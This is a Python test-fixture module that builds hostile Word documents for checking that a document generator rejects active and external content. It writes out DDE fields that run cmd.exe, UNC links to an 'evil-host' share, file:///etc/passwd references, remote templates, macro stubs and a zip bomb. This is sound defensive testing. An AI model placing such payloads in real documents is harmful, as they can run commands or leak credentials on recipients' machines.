"""Builders of hostile and careless inputs: drafts, templates and text files as an attacker or a hurried user
would make them. Every fixture is built here from a document docgen renders, so the tests need no binary
files and each payload is visible in code."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from docgen import Speech, render

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
REL_HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
REL_ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
REL_ALTCHUNK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
REL_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
REL_OLE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
REL_FONT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/font"
REL_DATASOURCE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/mailMergeSource"


def plain_docx(paragraphs: tuple[str, ...] = ("今天召开会议。",), title: str = "在全县工作会议上的讲话") -> bytes:
    """An ordinary docgen document, the base every hostile one is made from."""
    return render(Speech(title=title, opening=list(paragraphs), closing=["谢谢大家！"]))


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def repack(
    data: bytes,
    change: Mapping[str, bytes] | None = None,
    *,
    compression: int = zipfile.ZIP_DEFLATED,
    drop: tuple[str, ...] = (),
) -> bytes:
    """``data`` with the parts in ``change`` replaced or added, ``drop`` removed, all stored with ``compression``."""
    entries = parts(data)
    entries.update(change or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, blob in entries.items():
            if name not in drop:
                archive.writestr(name, blob)
    return out.getvalue()


def edit_part(data: bytes, part: str, old: bytes, new: bytes, **options: object) -> bytes:
    blob = parts(data)[part]
    if old not in blob:
        raise AssertionError(f"{old!r} not in {part}")
    return repack(data, {part: blob.replace(old, new, 1)}, **options)  # type: ignore[arg-type]


def add_relationship(data: bytes, rel_id: str, rel_type: str, target: str, *, external: bool = True) -> bytes:
    """A relationship of word/document.xml (external by default: TargetMode="External")."""
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'.encode()
    return edit_part(data, "word/_rels/document.xml.rels", b"</Relationships>", rel + b"</Relationships>")


def add_settings_xml(data: bytes, xml: str) -> bytes:
    """Insert ``xml`` at the start of word/settings.xml's root."""
    blob = parts(data)["word/settings.xml"]
    start = blob.index(b">", blob.index(b"<w:settings")) + 1
    return repack(data, {"word/settings.xml": blob[:start] + xml.encode() + blob[start:]})


def add_body_xml(data: bytes, xml: str) -> bytes:
    """Insert ``xml`` (paragraph-level WordprocessingML) at the start of the body."""
    blob = parts(data)["word/document.xml"]
    start = blob.index(b">", blob.index(b"<w:body")) + 1
    return repack(data, {"word/document.xml": blob[:start] + xml.encode() + blob[start:]})


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def complex_field(instruction: str, result: str = "结果") -> str:
    return paragraph(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def simple_field(instruction: str, result: str = "结果") -> str:
    from xml.sax.saxutils import quoteattr

    instr = quoteattr(f" {instruction} ")
    return paragraph(f"<w:fldSimple w:instr={instr}><w:r><w:t>{result}</w:t></w:r></w:fldSimple>")


def external_image_paragraph(rel_id: str) -> str:
    """A picture whose bytes are linked (r:link), not embedded: Word and LibreOffice fetch it when opened."""
    return paragraph(
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="914400" cy="914400"/><wp:docPr id="77" name="外部图片"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="77" name="外部图片"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip xmlns:r="{R_NS}" r:link="{rel_id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def with_entity(data: bytes, value: str = "隆重", text: str = "今天召开会议。") -> bytes:
    """The issue's payload: an internal entity used in a run, ``今天&e;召开会议。``."""
    blob = parts(data)["word/document.xml"]
    declared = blob.replace(b"?>", f'?><!DOCTYPE w:document [<!ENTITY e "{value}">]>'.encode(), 1).replace(
        text.encode(), text.replace("召开", "&e;召开").encode(), 1
    )
    return repack(data, {"word/document.xml": declared})


def zip_bomb(data: bytes, megabytes: int = 60) -> bytes:
    """A package with one padding part of zeros: small on disk, huge unpacked."""
    return repack(data, {"word/media/padding.bin": b"\0" * (megabytes * 1024 * 1024)})


def encrypted_docx() -> bytes:
    """What Word writes for a password-protected .docx: an OLE compound file, not a zip."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504 + b"EncryptedPackage" + b"\0" * 1000


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def text_in(encoding: str, text: str) -> bytes:
    return text.encode(encoding)


# -- active and external content, for templates (and documents given to the PDF converter) -------------

RELS_HEAD = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL_NS}">'


def add_part(data: bytes, name: str, blob: bytes, content_type: str | None = None) -> bytes:
    change = {name: blob}
    if content_type:
        types = parts(data)["[Content_Types].xml"]
        override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'.encode()
        change["[Content_Types].xml"] = types.replace(b"</Types>", override + b"</Types>")
    return repack(data, change)


def rels_of(data: bytes, rels_part: str, rel_id: str, rel_type: str, target: str, *, external: bool) -> bytes:
    """Add a relationship to ``rels_part``, creating the file when the part has none yet."""
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'.encode()
    existing = parts(data).get(rels_part, (RELS_HEAD + "</Relationships>").encode())
    return repack(data, {rels_part: existing.replace(b"</Relationships>", rel + b"</Relationships>")})


def external_image(data: bytes, url: str) -> bytes:
    data = add_relationship(data, "rIdEvil", REL_IMAGE, url)
    return add_body_xml(data, external_image_paragraph("rIdEvil"))


def attached_template(data: bytes, url: str = "http://127.0.0.1:9/evil.dotm") -> bytes:
    data = rels_of(data, "word/_rels/settings.xml.rels", "rIdTpl", REL_ATTACHED, url, external=True)
    return add_settings_xml(data, f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdTpl"/>')


def mail_merge(data: bytes) -> bytes:
    data = rels_of(
        data, "word/_rels/settings.xml.rels", "rIdSrc", REL_DATASOURCE, "file:///C:/data/名单.xlsx", external=True
    )
    return add_settings_xml(
        data,
        f'<w:mailMerge xmlns:r="{R_NS}"><w:mainDocumentType w:val="formLetters"/>'
        '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdSrc"/></w:mailMerge>',
    )


def alt_chunk(data: bytes) -> bytes:
    data = add_part(
        data, "word/afchunk.htm", b"<html><body><img src='http://127.0.0.1:9/x.png'></body></html>", "text/html"
    )
    data = add_relationship(data, "rIdChunk", REL_ALTCHUNK, "afchunk.htm", external=False)
    return add_body_xml(data, f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdChunk"/>')


def macros(data: bytes) -> bytes:
    data = add_part(
        data,
        "word/vbaProject.bin",
        b"\xd0\xcf\x11\xe0 Attribute VB_Name AutoOpen Shell",
        "application/vnd.ms-office.vbaProject",
    )
    data = add_relationship(data, "rIdVba", REL_VBA, "vbaProject.bin", external=False)
    types = parts(data)["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return repack(data, {"[Content_Types].xml": types})


def ole_object(data: bytes) -> bytes:
    data = add_part(
        data,
        "word/embeddings/oleObject1.bin",
        b"\xd0\xcf\x11\xe0 Package",
        "application/vnd.openxmlformats-officedocument.oleObject",
    )
    data = add_relationship(data, "rIdOle", REL_OLE, "embeddings/oleObject1.bin", external=False)
    return add_body_xml(
        data,
        paragraph(
            '<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:r="{R_NS}"><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r>'
        ),
    )


def linked_ole(data: bytes) -> bytes:
    data = add_relationship(data, "rIdLink", REL_OLE, "\\\\evil-host\\share\\data.xlsx")
    return add_body_xml(
        data,
        paragraph(
            '<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:r="{R_NS}"><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdLink" '
            'UpdateMode="Always"/></w:object></w:r>'
        ),
    )


def activex(data: bytes) -> bytes:
    data = add_part(
        data,
        "word/activeX/activeX1.xml",
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
        "application/vnd.ms-office.activeX+xml",
    )
    data = add_relationship(
        data,
        "rIdAx",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/control",
        "activeX/activeX1.xml",
        external=False,
    )
    return add_body_xml(data, paragraph(f'<w:r><w:control xmlns:r="{R_NS}" r:id="rIdAx" w:name="TextBox1"/></w:r>'))


def embedded_font(data: bytes) -> bytes:
    data = add_part(
        data, "word/fonts/font1.odttf", b"\x00" * 64, "application/vnd.openxmlformats-officedocument.obfuscatedFont"
    )
    data = rels_of(data, "word/_rels/fontTable.xml.rels", "rIdFont", REL_FONT, "fonts/font1.odttf", external=False)
    blob = parts(data)["word/fontTable.xml"]
    end = blob.rindex(b"</w:fonts>")
    font = (
        f'<w:font w:name="陌生字体" xmlns:r="{R_NS}"><w:embedRegular r:id="rIdFont" '
        'w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>'
    ).encode()
    return repack(data, {"word/fontTable.xml": blob[:end] + font + blob[end:]})


def outside_binding(data: bytes) -> bytes:
    return add_body_xml(
        data,
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root[1]/secret[1]" '
        'w:storeItemID="{11111111-2222-3333-4444-555555555555}"/></w:sdtPr>'
        "<w:sdtContent><w:p><w:r><w:t>绑定</w:t></w:r></w:p></w:sdtContent></w:sdt>",
    )


def hyperlink(data: bytes, url: str) -> bytes:
    data = add_relationship(data, "rIdLink", REL_HYPERLINK, url)
    return add_body_xml(
        data, paragraph(f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdLink"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink>')
    )


def vml_href(data: bytes) -> bytes:
    return add_body_xml(
        data,
        paragraph(
            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:10pt;height:10pt">'
            '<v:imagedata o:href="file:///etc/passwd" o:title="x"/></v:shape></w:pict></w:r>'
        ),
    )


def hyperlink_base(data: bytes) -> bytes:
    blob = parts(data)["docProps/app.xml"]
    end = blob.rindex(b"</Properties>")
    return repack(
        data, {"docProps/app.xml": blob[:end] + b"<HyperlinkBase>\\\\evil-host\\share\\</HyperlinkBase>" + blob[end:]}
    )


def split_field(data: bytes) -> bytes:
    """INCLUDEPICTURE with its keyword split over two runs, as Word itself sometimes saves it."""
    return add_body_xml(
        data,
        paragraph(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">PICTURE "http://127.0.0.1:9/x.png" \\d </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域结果</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    )


# name → (builder on a template's bytes, words the refusal must contain)
ACTIVE_PAYLOADS = {
    "image-http": (lambda d: external_image(d, "http://127.0.0.1:9/track.png"), "外部图片"),
    "image-file": (lambda d: external_image(d, "file:///etc/passwd"), "外部图片"),
    "image-unc": (lambda d: external_image(d, "\\\\evil-host\\share\\a.png"), "外部图片"),
    "attached-template": (attached_template, "附加模板"),
    "includepicture-complex": (
        lambda d: add_body_xml(d, complex_field('INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d')),
        "INCLUDEPICTURE",
    ),
    "includepicture-split": (split_field, "INCLUDEPICTURE"),
    "includetext-simple": (lambda d: add_body_xml(d, simple_field('INCLUDETEXT "C:\\\\secret.docx"')), "INCLUDETEXT"),
    "link-field": (
        lambda d: add_body_xml(d, complex_field('LINK Excel.Sheet.12 "\\\\\\\\host\\\\s.xlsx" "Sheet1!R1C1" \\a')),
        "LINK",
    ),
    "dde-field": (lambda d: add_body_xml(d, complex_field('DDE "cmd" "/c calc" "x"')), "DDE"),
    "ddeauto-field": (
        lambda d: add_body_xml(d, simple_field('DDEAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"')),
        "DDEAUTO",
    ),
    "hyperlink-field-unc": (
        lambda d: add_body_xml(d, simple_field('HYPERLINK "\\\\\\\\evil-host\\\\share"')),
        "HYPERLINK",
    ),
    "mail-merge": (mail_merge, "邮件合并"),
    "alt-chunk": (alt_chunk, "altChunk"),
    "macros": (macros, "宏"),
    "ole-embedded": (ole_object, "OLE"),
    "ole-linked-unc": (linked_ole, "OLE"),
    "activex": (activex, "ActiveX"),
    "embedded-font": (embedded_font, "嵌入字体"),
    "data-binding-outside": (outside_binding, "数据绑定"),
    "hyperlink-file": (lambda d: hyperlink(d, "file:///etc/passwd"), "超链接"),
    "vml-href-file": (vml_href, "外部地址"),
    "hyperlink-base-unc": (hyperlink_base, "超链接基址"),
}
